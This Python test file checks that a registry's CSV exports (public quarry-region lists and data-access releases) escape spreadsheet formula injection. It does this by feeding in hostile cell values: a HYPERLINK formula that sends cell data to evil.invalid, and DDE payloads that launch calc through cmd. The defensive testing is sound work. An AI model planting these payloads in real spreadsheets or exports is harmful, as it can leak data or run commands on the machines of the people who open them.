"""CSV formula injection (issue 11 item 6; docs/confidentiality.md "Exports"): text that a company
reported (a province, a district, a site name) or a party typed (a local partner's name) must never
reach a spreadsheet as a formula. Every CSV the registry writes is attacked here as a reader would
open it: the public quarry-region list over HTTP and from the CLI, and the data-access release.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fastapi.testclient import TestClient

from registry.domain.accounts import ROLES_REQUIRING_TOTP, Role
from registry.domain.organisations import CompanyCategory, CompanySize, OrganisationKind
from tests.e2e.test_cli import run
from tests.e2e.test_data_access_http import BASE, CLAUSE, ORGS, REQUEST
from tests.integration.report_files import csv_bytes, quarry_row
from tests.publishing import publish_quarry_regions
from trustone.web.app import create_app

# OWASP's list of cell starts a spreadsheet evaluates: = + - @, tab and carriage return.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PROVINCE = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
DISTRICT = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXT_COLUMNS = ("country", "country_name", "province", "district")


def _dangerous(value: str) -> bool:
    return value.lstrip(" ")[:1] in TRIGGERS


@pytest.fixture
def published(services):
    for ref in ("steen-a", "steen-b", "steen-c"):
        services.registry.register_organisation(ref, ref.upper(), OrganisationKind.MEMBER_COMPANY, "NL")
        services.registry.join(ref, dt.date(2022, 1, 1), CompanyCategory.C, CompanySize.MEDIUM)
        services.registry.import_report(
            ref,
            2024,
            csv_bytes(
                [
                    quarry_row(province=PROVINCE, district=DISTRICT),
                    quarry_row(
                        chain="C2",
                        name="Plus Quarry",
                        province="Rajasthan",
                        district="+1+2",
                        latitude="25.3",
                        longitude="75.2",
                    ),
                ]
            ),
            "r.csv",
            submitted_on=dt.date(2025, 3, 1),
        )
    publish_quarry_regions(services, 2024)
    return services


def _text_cells(body: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows, body
    return [row[column] for row in rows for column in TEXT_COLUMNS]


def test_the_public_quarry_region_csv_over_http_has_no_formula(published):
    with TestClient(create_app(published), raise_server_exceptions=False) as client:
        response = client.get("/api/v1/public/quarry-regions", params={"year": 2024, "format": "csv"})
    assert response.status_code == 200, response.text
    cells = _text_cells(response.text)
    assert [value for value in cells if _dangerous(value)] == []
    assert "'" + PROVINCE in cells and "'" + DISTRICT in cells and "'+1+2" in cells  # kept, made inert


def test_the_cli_export_of_the_quarry_region_csv_has_no_formula(published):
    result = run(published.settings, "export", "quarry-regions", "--format", "csv", "--year", "2024")
    assert result.returncode == 0, result.stderr
    cells = _text_cells(result.stdout)
    assert [value for value in cells if _dangerous(value)] == []
    assert "'" + PROVINCE in cells


@pytest.fixture
def release_client(services):
    """The parties of tests/e2e/test_data_access_http.py; the company reports a Rajasthan district
    written as a formula."""
    registry = services.registry
    for role, (ref, kind) in ORGS.items():
        registry.register_organisation(ref, ref.title(), kind, "NL")
        registry.create_account(
            f"{role.value}.user",
            role,
            ref,
            role.value,
            "not-used-here",
            "JBSWY3DPEHPK3PXP" if role in ROLES_REQUIRING_TOTP else None,
        )
    for ref in ("steen-b", "steen-c"):  # three reporting companies: lists need k (docs/lists.md)
        registry.register_organisation(ref, ref.title(), OrganisationKind.MEMBER_COMPANY, "NL")
    for ref in ("eigen-steen", "steen-b", "steen-c"):
        registry.join(ref, dt.date(2022, 1, 1), CompanyCategory.C, CompanySize.MEDIUM)
        registry.import_report(
            ref,
            2024,
            csv_bytes([quarry_row(district="-2+3+cmd|' /C calc'!A0")]),
            "r.csv",
            submitted_on=dt.date(2025, 3, 1),
        )
    with TestClient(create_app(services), raise_server_exceptions=False) as test_client:
        sessions = test_client.app.state.authenticator._sessions  # noqa: SLF001
        test_client.headers_of = {  # type: ignore[attr-defined]
            role: {"Authorization": f"Bearer {sessions.issue(f'{role.value}.user', dt.timedelta(hours=1))}"}
            for role in ORGS
        }
        yield test_client


def test_the_release_csv_has_no_formula_in_its_rows_or_its_watermark(release_client):
    as_ = release_client.headers_of
    partner = {"name": 'Samiti,=HYPERLINK("http://evil.invalid")', "contact": "+91 94140 00000"}
    created = release_client.post(BASE, json={**REQUEST, "local_partner": partner}, headers=as_[Role.NGO])
    assert created.status_code == 201, created.text
    access_id = created.json()["id"]
    assert release_client.post(f"{BASE}/{access_id}/clause", json=CLAUSE, headers=as_[Role.NGO]).status_code == 200
    decided = release_client.post(
        f"{BASE}/{access_id}/decision", json={"approve": True, "reason": "scoped"}, headers=as_[Role.SECRETARIAT]
    )
    assert decided.status_code == 200, decided.text
    download = release_client.get(f"{BASE}/{access_id}/release?format=csv", headers=as_[Role.NGO])
    assert download.status_code == 200, download.text
    cells = [value for row in csv.reader(io.StringIO(download.text)) for value in row]
    assert [value for value in cells if _dangerous(value)] == []
    assert "'-2+3+cmd|' /C calc'!A0" in cells  # the district is there, made inert


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_one_escaping_rule_for_every_export(trigger):
    from registry.csvsafe import cell  # the one rule every CSV export uses

    assert cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert cell("  " + trigger + "1") == "'  " + trigger + "1"
    assert cell("Rajasthan") == "Rajasthan" and cell(None) == "" and cell(-23.5) == "-23.5"
    assert cell(["=a", "b"]) == "'=a;b"
